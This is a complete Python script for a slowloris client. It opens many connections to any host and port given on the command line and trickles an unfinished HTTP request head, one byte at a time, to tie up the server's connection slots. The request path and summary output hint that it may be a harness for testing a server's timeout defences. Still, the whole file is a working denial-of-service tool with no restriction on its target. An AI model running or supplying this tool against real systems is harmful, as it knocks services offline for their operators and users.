"""A slowloris client: opens COUNT connections to HOST:PORT and sends a request head one byte every INTERVAL
seconds on each, never finishing it, for SECONDS in all.

usage: slowloris.py HOST PORT COUNT INTERVAL SECONDS

Prints "slowloris: C connections, B bytes sent, R reset or closed".
"""
import socket
import sys
import time

HOST, PORT, COUNT, INTERVAL, SECONDS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), \
    float(sys.argv[5])
HEAD = b"GET /hello HTTP/1.1\r\nHost: slow\r\n" + b"X-Slow: " + b"s" * 4000

address = socket.getaddrinfo(HOST, PORT, socket.AF_INET, socket.SOCK_STREAM)[0][4]
connections = [socket.create_connection(address, timeout=10) for _ in range(COUNT)]
deadline = time.monotonic() + SECONDS
sent, broken = 0, set()
while time.monotonic() < deadline and sent < COUNT * len(HEAD):
    for index, connection in enumerate(connections):
        if index in broken:
            continue
        try:
            connection.send(HEAD[sent // COUNT:sent // COUNT + 1])
            sent += 1
        except OSError:
            broken.add(index)
    time.sleep(INTERVAL)
print("slowloris: %d connections, %d bytes sent, %d reset or closed" % (COUNT, sent, len(broken)), flush=True)
